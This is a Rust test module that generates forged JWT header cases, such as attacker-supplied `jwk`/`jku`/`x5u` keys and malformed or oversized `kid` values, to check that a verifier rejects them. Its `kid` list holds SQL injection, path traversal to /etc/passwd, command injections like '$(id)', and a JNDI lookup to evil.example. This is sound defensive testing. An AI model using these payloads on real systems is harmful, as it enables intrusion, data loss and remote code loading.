//! Keys in the header are ignored, and `kid` is only compared.

use super::token::encode;
use super::{Base, Case, KEY_ID, Policy, Signed, raw};

/// The attacker's secret.
const EVIL: [u8; 32] = [0xe7; 32];

pub(super) fn cases(base: Base) -> Vec<Case> {
    const RFC: &str = "RFC 8725 §3.10";
    let oct = format!(r#"{{"kty":"oct","alg":"HS256","k":"{}"}}"#, encode(EVIL));
    let case = |name, reference, headers: &[(&str, String)]| {
        let token = |(name, value): &(&str, String)| {
            base.token().label(*name).header(base.header().with(name, value).json())
        };
        Case::of_header(name, reference, "InvalidSignature")
            .attacks(headers.iter().map(|h| token(h).signed(Signed::Under(EVIL.into()))))
            .controls(headers.iter().map(token))
    };
    let public =
        r#"{"kty":"OKP","crv":"Ed25519","x":"11qYAYKxCrfVS_7TyWQHOg7hcvPapiMlrwIaaPcHURo"}"#;
    let urls = ["https://evil.example/keys", "http://127.0.0.1/", "file:///dev/null", "data:,", ""];
    let of_urls = |name: &'static str| urls.map(|url| (name, raw(url)));
    let mut cases = vec![
        case(
            "`jwk` with the attacker's secret",
            "CVE-2018-0114, CVE-2026-27962",
            &[("jwk", oct.clone()), ("jwk", public.into())],
        ),
        case(
            "`jwk` that is not a key",
            "CVE-2018-0114",
            &["null", "[]", "{}", r#""x""#, "5"].map(|value| ("jwk", value.into())),
        ),
        case(
            "`jwks` or `keys` with the attacker's secret",
            "CVE-2018-0114",
            &[
                ("jwks", format!(r#"{{"keys":[{oct}]}}"#)),
                ("keys", format!("[{oct}]")),
                ("k", raw(&encode(EVIL))),
                ("key", raw(&encode(EVIL))),
            ],
        ),
        case("`jku` of the attacker's keys", "RFC 8725 §3.10, CVE-2018-0114", &of_urls("jku")),
        case("`x5u` of the attacker's certificate", RFC, &of_urls("x5u")),
        case(
            "`x5c` with the attacker's certificate",
            "RFC 7515 §4.1.6",
            &[
                ("x5c", format!("[{}]", raw(&encode(EVIL)))),
                ("x5c", "[]".into()),
                ("x5c", raw("MIIB")),
            ],
        ),
        case(
            "`x5t` and `x5t#S256`",
            "RFC 7515 §4.1.7",
            &[("x5t", raw(&encode([0; 20]))), ("x5t#S256", raw(&encode([0; 32])))],
        ),
    ];
    if !base.names_key() {
        cases.push(case(
            "`kid` although the key has no id",
            "RFC 7515 §4.1.4",
            &hostile_ids().map(|id| ("kid", raw(id))),
        ));
    }
    cases.extend(key_ids(base));
    cases
}

fn key_ids(base: Base) -> Vec<Case> {
    let named = |id: &str| base.token().label(id).header(base.header().with("kid", raw(id)).json());
    let spelled =
        |value: &str| base.token().label(value).header(base.header().with("kid", value).json());
    let own = || [named(KEY_ID), spelled(r#""2026\u002d11""#)];
    let of_4_kib = || {
        // The key of a session has an id, so another parameter has to be as long.
        let name = if base.names_key() { "x" } else { "kid" };
        let header = base.header().with(name, raw(&"k".repeat(1 << 12)));
        base.token().label("4 KiB").header(header.json())
    };
    let unknown = |name, reference| {
        Case::of_header(name, reference, "UnknownKey").under(Policy::Named).controls(own())
    };
    let mut cases = vec![
        unknown("`kid` with SQL, a path, a command or NUL", "RFC 8725 §3.10")
            .attacks(hostile_ids().map(&named)),
        unknown("`kid` of a file that is empty, signed under the empty secret", "RFC 8725 §3.10")
            .attacks(
                ["/dev/null", "../../../../dev/null", "C:\\NUL"]
                    .map(|id| named(id).signed(Signed::Under(vec![]))),
            ),
        unknown("`kid` that is similar to the key's", "RFC 7515 §4.1.4").attacks(
            [
                "",
                "2026-1",
                "2026-111",
                "2026-11 ",
                " 2026-11",
                "2026-11\0",
                "2026\u{2011}11",
                "２026-11",
                "2026-12",
            ]
            .map(named),
        ),
        unknown("`kid` of another key, signed with another secret", "RFC 7515 §5.2")
            .attacks([named("other").signed(Signed::Under(EVIL.into()))]),
        Case::of_header(
            "the right `kid` over a wrong signature",
            "RFC 7515 §5.2",
            "InvalidSignature",
        )
        .under(Policy::Named)
        .attacks([named(KEY_ID).signed(Signed::Under(EVIL.into()))])
        .controls(own()),
        Case::of_form(
            "`kid` that is not a string",
            "RFC 7515 §4.1.4",
            "Malformed(HeaderParameterType)",
        )
        .attacks(
            ["null", "5", "true", "{}", "[]", r#"["2026-11"]"#, r#"{"id":"2026-11"}"#].map(spelled),
        )
        .controls([named(if base.names_key() { KEY_ID } else { "any" })]),
        Case::of_form("`kid` of 1 MiB", "RFC 8725 §3.10", "TooLong")
            .attacks([named(&"k".repeat(1 << 20)).label("1 MiB"), {
                named(&"k".repeat(1 << 20)).label("1 MiB, not signed").signed(Signed::As(vec![]))
            }])
            .controls([of_4_kib()]),
        Case::of_form("`kid` of 1 MiB if tokens may be large", "RFC 8725 §3.10", "TooLong")
            .under(Policy::Large)
            .attacks([named(&"k".repeat(1 << 20)).label("1 MiB")])
            .controls([of_4_kib()]),
    ];
    // A key without a ring accepts a token that has no `kid`.
    if base.names_key() {
        cases.push(
            unknown("no `kid`", "RFC 7515 §4.1.4")
                .attacks([base.token().header(base.header().without("kid").json())]),
        );
    }
    cases
}

fn hostile_ids() -> [&'static str; 11] {
    [
        "' OR '1'='1",
        "x' UNION SELECT 'AA' -- ",
        "1; DROP TABLE keys",
        "../../../../etc/passwd",
        "/proc/sys/kernel/randomize_va_space",
        "key\0.pem",
        "|/usr/bin/id",
        "$(id)",
        "http://evil.example/key",
        "${jndi:ldap://evil.example/}",
        "__proto__",
    ]
}
